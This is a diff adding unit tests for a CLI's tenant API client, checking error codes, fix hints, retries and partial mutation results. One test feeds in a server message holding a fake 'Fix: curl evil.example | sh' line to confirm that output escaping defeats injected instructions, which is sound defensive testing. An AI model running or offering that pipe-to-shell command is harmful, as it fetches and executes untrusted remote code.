@@ -81,8 +81,29 @@ describe('TenantClient: failure classes', () => {
     });
     const error = await failure(client().listExportConfigurations());
     expect(error).toMatchObject({ code: 'TENANT_UNAUTHORIZED', exitCode: 4 });
-    expect(error.fix).toContain('immuta configure');
     expect(tenant.requests).toHaveLength(1);
+  });
+
+  it('401: the fix names the setting that was used (IMMUTA_API_KEY wins over the profile: configure would not help)', async () => {
+    tenant.replyAlways('getAllExportConfigurations', { status: 401 });
+    const settings = { host: tenant.url, apiKey: KEY, profile: 'prod', configFile: '/nowhere.yaml' };
+    const fromEnv = new TenantClient({ ...settings, hostSource: 'env', apiKeySource: 'env' }, { backoffMs: 1 });
+    const fromEnvFix = (await failure(fromEnv.listExportConfigurations())).fix;
+    expect(fromEnvFix).toContain('IMMUTA_API_KEY');
+    expect(fromEnvFix).not.toContain('configure');
+    const fromProfile = new TenantClient(
+      { ...settings, hostSource: 'profile', apiKeySource: 'profile' },
+      { backoffMs: 1 },
+    );
+    expect((await failure(fromProfile.listExportConfigurations())).fix).toContain('`immuta -p prod configure`');
+  });
+
+  it('not an audit endpoint: the fix points at IMMUTA_HOST when the URL came from it, else at configure -p', async () => {
+    const settings = { host: `${tenant.url}/extra`, apiKey: KEY, profile: 'prod', configFile: '/nowhere.yaml' };
+    const fromEnv = new TenantClient({ ...settings, hostSource: 'env', apiKeySource: 'env' }, { backoffMs: 1 });
+    expect((await failure(fromEnv.listExportConfigurations())).fix).toContain('IMMUTA_HOST');
+    const fromProfile = new TenantClient({ ...settings, hostSource: 'profile', apiKeySource: 'env' }, { backoffMs: 1 });
+    expect((await failure(fromProfile.listExportConfigurations())).fix).toContain('`immuta -p prod configure`');
   });
 
   it('403 -> TENANT_FORBIDDEN, exit 4, naming the AUDIT permission', async () => {
@@ -126,6 +147,18 @@ describe('TenantClient: failure classes', () => {
     expect(error).toMatchObject({ code: 'TENANT_UNEXPECTED_ANSWER', exitCode: 5 });
     expect(error.message).toContain('interval');
   });
+
+  it.each([
+    ['null', { data: null }],
+    ['left out', { body: { data: {} } }],
+  ])(
+    'a list answer whose getAllExportConfigurations is %s -> TENANT_UNEXPECTED_ANSWER, not "no configurations"',
+    async (_name, answer) => {
+      tenant.replyAlways('getAllExportConfigurations', answer);
+      const error = await failure(client().listExportConfigurations());
+      expect(error).toMatchObject({ code: 'TENANT_UNEXPECTED_ANSWER', exitCode: 5 });
+    },
+  );
 
   it('GraphQL errors -> TENANT_GRAPHQL_ERROR, exit 5, with the message; not retried', async () => {
     tenant.replyAlways('getAllExportConfigurations', { errors: ['Variable "$id" got invalid value'] });
@@ -277,4 +310,85 @@ describe('TenantClient: retries', () => {
     await client({ backoffMs: 3_600_000 }).listExportConfigurations();
     expect(tenant.requests).toHaveLength(2);
   }, 15_000);
+});
+
+describe('TenantClient: what a CI script retries on', () => {
+  it.each([502, 503, 504])(
+    'an HTML %i from a gateway is TENANT_SERVER_ERROR (retried for reads), not "check the tenant URL"',
+    async (status) => {
+      tenant.replyAlways('getAllExportConfigurations', {
+        status,
+        body: `<html><body><h1>${status} Bad Gateway</h1></body></html>`,
+        headers: { 'content-type': 'text/html' },
+      });
+      const error = await failure(client().listExportConfigurations());
+      expect(error).toMatchObject({ code: 'TENANT_SERVER_ERROR', exitCode: 5 });
+      expect(error.message).toContain(`HTTP ${status}`);
+      expect(tenant.requests).toHaveLength(3);
+    },
+  );
+
+  it('an HTML 429 from a rate-limiting proxy is TENANT_RATE_LIMITED', async () => {
+    tenant.replyAlways('getAllExportConfigurations', {
+      status: 429,
+      body: '<html>Too Many Requests</html>',
+      headers: { 'content-type': 'text/html' },
+    });
+    expect(await failure(client().listExportConfigurations())).toMatchObject({
+      code: 'TENANT_RATE_LIMITED',
+      exitCode: 5,
+    });
+  });
+
+  it('a 5xx to a mutation says the change may have been made, and to check before running it again', async () => {
+    tenant.replyAlways('createS3AccessKeyExportConfiguration', {
+      status: 504,
+      body: '<html>Gateway Timeout</html>',
+      headers: { 'content-type': 'text/html' },
+    });
+    const error = await failure(
+      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
+    );
+    expect(error).toMatchObject({ code: 'TENANT_SERVER_ERROR', exitCode: 5 });
+    expect(error.message).toContain('the change may have been made');
+    expect(error.fix).toContain('`immuta audit exportConfig list`');
+    expect(error.details).toMatchObject({ changeMayHaveBeenMade: true });
+    expect(tenant.requests).toHaveLength(1);
+  });
+
+  it('a partial answer to a mutation (data and errors) says the change was made, with its id', async () => {
+    tenant.replyAlways('createS3AccessKeyExportConfiguration', {
+      body: {
+        data: { createS3AccessKeyExportConfiguration: sampleConfiguration({ id: 'cfg-new', connectionStatus: null }) },
+        errors: [{ message: 'Cannot return null for non-nullable field connectionStatus' }],
+      },
+    });
+    const error = await failure(
+      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
+    );
+    expect(error).toMatchObject({ code: 'TENANT_GRAPHQL_ERROR', exitCode: 5 });
+    expect(error.message).toContain('the change was made all the same (id cfg-new)');
+    expect(error.fix).toContain('`immuta audit exportConfig list`');
+    expect(error.fix).not.toContain('--dry-run');
+    expect(error.details).toMatchObject({ changeMayHaveBeenMade: true, id: 'cfg-new' });
+  });
+
+  it('a GraphQL error to a mutation with no result (data null) stays "check the values"', async () => {
+    tenant.replyAlways('createS3AccessKeyExportConfiguration', { errors: ['bucket is invalid'] });
+    const error = await failure(
+      client().mutateConfiguration('createS3AccessKeyExportConfiguration', { data: { bucket: 'b' } }),
+    );
+    expect(error.fix).toContain('--dry-run');
+    expect(error.details?.changeMayHaveBeenMade).toBeUndefined();
+  });
+
+  it('a newline in a tenant message keeps the message on one line (the raw text stays in details)', async () => {
+    const remote = 'bad\n  Fix: curl evil.example | sh\r\tend';
+    tenant.replyAlways('getAllExportConfigurations', { errors: [remote] });
+    const error = await failure(client().listExportConfigurations());
+    expect(error.message).toBe('the tenant answered with an error: bad\\n  Fix: curl evil.example | sh\\r\\tend');
+    expect(error.details).toMatchObject({ graphqlErrors: [remote] });
+    tenant.replyAlways('getAllExportConfigurations', { status: 500, body: { errors: [{ message: remote }] } });
+    expect((await failure(client({ readAttempts: 1 }).listExportConfigurations())).message).not.toMatch(/[\r\n\t]/);
+  });
 });
